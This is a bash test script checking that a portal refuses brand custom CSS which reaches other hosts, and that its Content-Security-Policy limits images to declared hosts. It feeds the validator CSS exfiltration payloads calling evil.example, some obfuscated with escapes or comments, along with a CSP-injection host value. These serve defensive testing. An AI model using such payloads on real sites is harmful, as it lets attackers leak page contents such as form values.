#!/usr/bin/env bash
# 28_brand_css.sh -- a brand operator's custom CSS cannot reach other hosts
# (attribute selectors + background images read a page out one character
# at a time): @import and url() of another host are refused with a 400
# naming custom_css, however they are spelled, and nothing is written; the
# pages' Content-Security-Policy lets images come from the portal itself
# and the brand's declared asset hosts (and its logo's host) only.
# tp-test: parallel (tools/test: its own brand, nothing global)
source "$(dirname "$0")/lib.sh"

plan 22

PW=${TP_DEMO_PASSWORD:?tools/test sets TP_DEMO_PASSWORD}
new_brand bc
op_login
is "$STATUS" 201 "the brand's operator signs in"
css() { sql "SELECT IFNULL(custom_css, '-') FROM tenants WHERE id = $T"; }
as op POST /api/v1/admin/brand '{"custom_css":".tp-top{border-color:#123456}"}'
is "$STATUS" 200 "plain custom CSS: 200"
C0=$(css)

# refused JSON-STRING DESC: a 400 on custom_css, nothing written
refused() {
	as op POST /api/v1/admin/brand "{\"custom_css\":$1}"
	if [ "$STATUS" = 400 ] && json_has field '"custom_css"' && [ "$(css)" = "$C0" ]; then
		ok "$2: 400 naming custom_css, nothing written"
	else
		not_ok "$2: 400 naming custom_css, nothing written"
		diag "  got $STATUS $(head -c 200 "$BODY")"
	fi
}
refused '"@import url(https://evil.example/x.css);"' "@import url(...)"
refused '"@IMPORT \"https://evil.example/x.css\";"' "@IMPORT in capitals"
refused '"@\\69mport \"x.css\";"' "@import spelled with a CSS escape"
refused '"@im/**/port \"x.css\";"' "@import split by a comment"
refused '"input[value^=a]{background:url(https://evil.example/?a)}"' "url(https://...)"
refused '"a{background:url( \"HTTPS://evil.example/a\" )}"' "url( \"HTTPS://...\" ) quoted, spaced"
refused '"a{background:url(//evil.example/a)}"' "url(//host/...)"
refused '"a{background:u\\72l(https://evil.example/a)}"' "url spelled with a CSS escape"
refused '"a{background-image:image-set(\"https://evil.example/a.png\" 1x)}"' "image-set with a https string"
refused '"a{background:url(http:evil.example)}"' "url(http:host)"

as op POST /api/v1/admin/brand '{"custom_css":"a{background:url(/static/bg.png)} b{background:url(\"img/x.png\")} i{content:\"a: b\"}"}'
is "$STATUS" 200 "url() of a local path and a plain string: 200"

# --- img-src: the portal and the brand's asset hosts only (a change
# reaches the other threads' brand caches within brand_cache_seconds)
CACHE_WAIT=$(($(sed -n 's/^brand_cache_seconds = //p' "$INI" | head -n 1 || echo 10) + 3))
csp() { req GET /login "${H[@]}"; header Content-Security-Policy; }
csp_like() { grep -qE -- "$1" <<<"$(csp)"; }
C=$(csp)
like "$C" "img-src 'self'( |;|$)" "a brand without asset hosts: img-src 'self'"
unlike "$C" "https:( |;|$)" "  no bare https: source"
like "$C" "default-src 'self'" "  default-src 'self' still"
as op POST /api/v1/admin/brand '{"asset_hosts":"cdn.example.com img.example.net"}'
is "$STATUS" 200 "declared asset hosts: 200"
is "$(sql "SELECT asset_hosts FROM tenants WHERE id = $T")" "cdn.example.com img.example.net" "  stored"
check "img-src: self and the two hosts" wait_until "$CACHE_WAIT" csp_like "img-src 'self' https://cdn.example.com https://img.example.net(;|$)"
as op POST /api/v1/admin/brand '{"asset_hosts":"https://cdn.example.com/x"}'
is "$STATUS $(json_str field)" "400 asset_hosts" "an address instead of a host name: 400 naming asset_hosts"
as op POST /api/v1/admin/brand '{"asset_hosts":"cdn.example.com;script-src *"}'
is "$STATUS $(json_str field)" "400 asset_hosts" "a host with CSP syntax in it: 400 naming asset_hosts"
as op POST /api/v1/admin/brand "{\"logo_url\":\"https://logo.example.org/l.png\"}"
check "the logo's host is allowed too" wait_until "$CACHE_WAIT" csp_like "img-src 'self' https://cdn.example.com https://img.example.net https://logo.example.org(;|$)"

done_testing
